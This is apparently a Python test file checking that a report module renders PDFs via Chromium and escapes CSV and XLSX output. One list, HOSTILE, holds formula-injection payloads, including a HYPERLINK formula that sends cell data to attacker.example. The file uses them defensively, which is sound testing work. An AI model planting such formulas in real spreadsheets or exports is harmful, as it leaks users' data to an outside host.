"""Shared report rendering: a real Chromium prints the PDF; CSV opens in spreadsheets."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from controlplane.reports import html_to_pdf, to_csv, to_xlsx


def test_html_is_printed_to_a_pdf_by_chromium() -> None:
    pdf = html_to_pdf("<html><body><h1>Rapport SLA</h1><p>Disponibilité 99,95 %</p></body></html>")
    assert pdf.startswith(b"%PDF-") and b"%%EOF" in pdf[-1024:]


def test_csv_has_a_bom_and_quotes_commas_and_empty_cells() -> None:
    data = to_csv(["circuit", "disponibilité"], [["CH Léon, lien 1", 99.5], ["B", None]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["circuit", "disponibilité"], ["CH Léon, lien 1", "99.5"], ["B", ""]]


HOSTILE = ['=HYPERLINK("https://attacker.example/?leak="&A2,"Preuve")', "+1+1", "-2+3",
           "@SUM(A1:A2)", "= oui"]


def test_csv_text_that_would_start_a_formula_is_quoted() -> None:
    data = to_csv(["note", "score"], [[text, -4] for text in HOSTILE])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-4"}  # numbers stay numbers


def test_xlsx_text_is_never_a_formula() -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx(["note", "score"],
                                                [[text, 7] for text in HOSTILE])))
    cells = [(cell.data_type, cell.value) for row in workbook.active.iter_rows(min_row=2)
             for cell in row]
    assert cells == [item for text in HOSTILE for item in (("s", text), ("n", 7))]


def test_xlsx_shows_control_characters_instead_of_failing() -> None:
    content = to_xlsx(["name"], [["token\x01name"], ["tab\tand newline\nkept"]])
    rows = [[cell.value for cell in row] for row in load_workbook(io.BytesIO(content)).active]
    assert rows[1:] == [["token\ufffdname"], ["tab\tand newline\nkept"]]
